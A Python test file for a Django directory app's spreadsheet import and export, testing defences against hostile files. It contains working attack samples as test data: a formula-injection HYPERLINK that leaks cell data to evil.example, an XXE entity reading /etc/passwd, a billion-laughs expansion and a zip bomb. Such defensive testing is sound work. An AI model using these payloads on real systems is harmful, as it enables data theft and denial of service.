"""Exports that cannot attack their reader, uploads that cannot take the server down.

Every file here is crafted for real (a zip of XML, a CSV) and read back by the real readers.
"""

import csv
import io
import time
import zipfile

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from directory.imports import export
from directory.imports.reading import UnreadableFile, read_table
from directory.imports.safety import neutralise, restore
from directory.imports.services import listings_import
from directory.models import Offer
from tests import factories

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+45 12 34 56 78", "-2+3", "@SUM(A1)", "\tTab"]


def test_neutralise_and_restore_are_inverse_for_every_trigger():
    for text in [*FORMULAS, "\rCR", "almindelig tekst", "'citeret", ""]:
        assert restore(neutralise(text)) == text
    assert all(neutralise(text).startswith("'") for text in [*FORMULAS, "\rCR"])
    assert neutralise("Pingviner") == "Pingviner"


@pytest.fixture
def hostile_offer(zoo, zoo_place):
    return factories.OfferFactory(
        organisation=zoo,
        title='Titel med "citat"',
        summary="@mention; med semikolon, og komma",
        description=FORMULAS[0] + "\nanden linje",
        booking_phone="+45 12 34 56 78",
        price_note="-halv pris for søskende",
        environments=[zoo_place],
    )


def test_the_csv_export_starts_every_formula_cell_with_an_apostrophe(zoo, hostile_offer):
    data = export.render(export.export_rows(zoo.offers.all(), zoo.environments.all()), "csv")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    cells = [value for row in rows for value in row.values() if value]
    dangerous = [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert dangerous == []
    offer_row = next(row for row in rows if row["titel"] == 'Titel med "citat"')
    assert offer_row["beskrivelse"] == "'" + FORMULAS[0] + "\nanden linje"
    assert offer_row["booking_telefon"] == "'+45 12 34 56 78"


def test_the_xlsx_export_writes_formula_text_as_text_never_as_a_formula(zoo, hostile_offer):
    data = export.render(export.export_rows(zoo.offers.all(), zoo.environments.all()), "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value}
    hyperlink = cells[FORMULAS[0] + "\nanden linje"]
    assert hyperlink.data_type == "s"


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_apps_own_export_with_quotes_and_formulas_reimports_unchanged(zoo, hostile_offer, export_format):
    data = export.render(export.export_rows(zoo.offers.all(), zoo.environments.all()), export_format)
    report = listings_import(organisation=zoo, data=data, filename=f"eksport.{export_format}", dry_run=False)
    assert report.ok, report.problems()
    assert report.count("create") == 0 and report.count("update") == 0
    hostile_offer.refresh_from_db()
    assert hostile_offer.title == 'Titel med "citat"'
    assert hostile_offer.booking_phone == "+45 12 34 56 78"


def test_the_dialect_is_read_from_a_sample_not_the_header_alone():
    text = 'sted_id;sted_navn\nA;"Et ""citat"" her"\nB;"linje\nto; med semikolon"\n'
    table = read_table(text.encode())
    assert [row["sted_navn"] for _line, row in table.rows] == ['Et "citat" her', "linje\nto; med semikolon"]


def xlsx_with(*, sheet_xml: bytes | None = None, workbook_xml: bytes | None = None) -> bytes:
    """A real workbook with one of its XML parts replaced."""
    workbook = Workbook()
    workbook.active.append(["sted_id", "sted_navn"])
    workbook.active.append(["A", "Zoo-skolen"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    source, out = zipfile.ZipFile(io.BytesIO(buffer.getvalue())), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml" and sheet_xml is not None:
                content = sheet_xml
            if item.filename == "xl/workbook.xml" and workbook_xml is not None:
                content = workbook_xml
            target.writestr(item.filename, content)
    return out.getvalue()


NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
XXE = (
    f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY secret SYSTEM "file:///etc/passwd">]><worksheet {NS}>'
    '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&secret;</t></is></c></row></sheetData></worksheet>'
).encode()
LAUGHS = "".join(
    f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10 if n else "lol"}">' for n in range(10)
)  # 10^9 "lol"s once expanded
BILLION_LAUGHS = (
    f'<?xml version="1.0"?><!DOCTYPE w [{LAUGHS}]><worksheet {NS}><sheetData><row r="1">'
    '<c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
).encode()
BROKEN = (
    f'<?xml version="1.0"?><worksheet {NS}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'.encode()
)
NO_SHEETS = (
    b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets/></workbook>'
)


@pytest.mark.parametrize(
    "crafted",
    [
        pytest.param(xlsx_with(sheet_xml=XXE), id="external-entity"),
        pytest.param(xlsx_with(sheet_xml=BILLION_LAUGHS), id="entity-expansion"),
        pytest.param(xlsx_with(sheet_xml=BROKEN), id="broken-xml"),
        pytest.param(xlsx_with(workbook_xml=NO_SHEETS), id="no-sheet"),
        pytest.param(b"PK\x03\x04" + b"\x00" * 200, id="broken-zip"),
    ],
)
def test_a_malformed_xlsx_is_a_message_on_the_import_page_not_a_500(client, editor_of_zoo, zoo, crafted):
    client.force_login(editor_of_zoo)
    upload = io.BytesIO(crafted)
    upload.name = "angreb.xlsx"
    started = time.perf_counter()
    response = client.post(reverse("members:import", args=[zoo.slug]), {"file": upload})
    assert time.perf_counter() - started < 20
    assert response.status_code == 400
    page = response.content.decode()
    assert "Filen kan ikke læses som XLSX" in page or "intet regneark" in page
    assert "root:" not in page  # /etc/passwd never reached the page


def wide_row_xlsx(cells: int) -> bytes:
    """One row of `cells` cells under a sheet that claims the whole grid (A1:XFD1048576)."""
    header = "".join(f'<c r="{column}1" t="inlineStr"><is><t>sted_id</t></is></c>' for column in ["A"])
    wide = "".join(f"<c><v>{index}</v></c>" for index in range(cells))
    sheet = (
        f'<?xml version="1.0"?><worksheet {NS}><dimension ref="A1:XFD1048576"/><sheetData>'
        f'<row r="1">{header}</row><row r="2">{wide}</row></sheetData></worksheet>'
    )
    return xlsx_with(sheet_xml=sheet.encode())


def test_a_very_wide_row_is_refused_quickly_naming_the_row(zoo):
    started = time.perf_counter()
    with pytest.raises(UnreadableFile) as refused:
        read_table(wide_row_xlsx(200_000), "wide.xlsx")  # 200,000 cells in one row
    assert time.perf_counter() - started < 20
    problem = refused.value.problems[0]
    assert "for mange celler" in problem.message and problem.row == 2


def test_an_xlsx_that_unpacks_to_too_much_is_refused_before_parsing(settings):
    settings.IMPORT_MAX_UNPACKED_BYTES = 1024 * 1024
    padding = b" " * (2 * 1024 * 1024)
    bomb = xlsx_with(sheet_xml=f'<?xml version="1.0"?><worksheet {NS}>'.encode() + padding + b"</worksheet>")
    assert len(bomb) < 50_000
    with pytest.raises(UnreadableFile) as refused:
        read_table(bomb, "bomb.xlsx")
    assert "pakkes ud" in refused.value.problems[0].message


def test_too_many_rows_and_too_long_cells_are_refused_naming_the_line(settings):
    settings.IMPORT_MAX_ROWS = 50
    many = "sted_id;sted_navn\n" + "".join(f"S{n};Sted {n}\n" for n in range(60))
    with pytest.raises(UnreadableFile) as refused:
        read_table(many.encode())
    assert "for mange rækker" in refused.value.problems[0].message and refused.value.problems[0].row == 52
    assert len(read_table("".join(many.splitlines(keepends=True)[:51]).encode()).rows) == 50

    settings.IMPORT_MAX_ROWS = 5000
    settings.IMPORT_MAX_CELL_CHARS = 100
    with pytest.raises(UnreadableFile) as refused:
        read_table(("sted_id;sted_navn\nA;" + "x" * 101 + "\n").encode())
    assert refused.value.problems[0].row == 2 and refused.value.problems[0].column == "2"


def test_the_upload_limit_is_a_setting_read_from_the_environment(settings):
    from django.conf import settings as live

    assert isinstance(live.IMPORT_MAX_BYTES, int) and live.IMPORT_MAX_BYTES > 0
    settings.IMPORT_MAX_BYTES = 10
    with pytest.raises(UnreadableFile):
        read_table(b"sted_id;sted_navn\nA;B\n")
    assert not Offer.objects.exists()
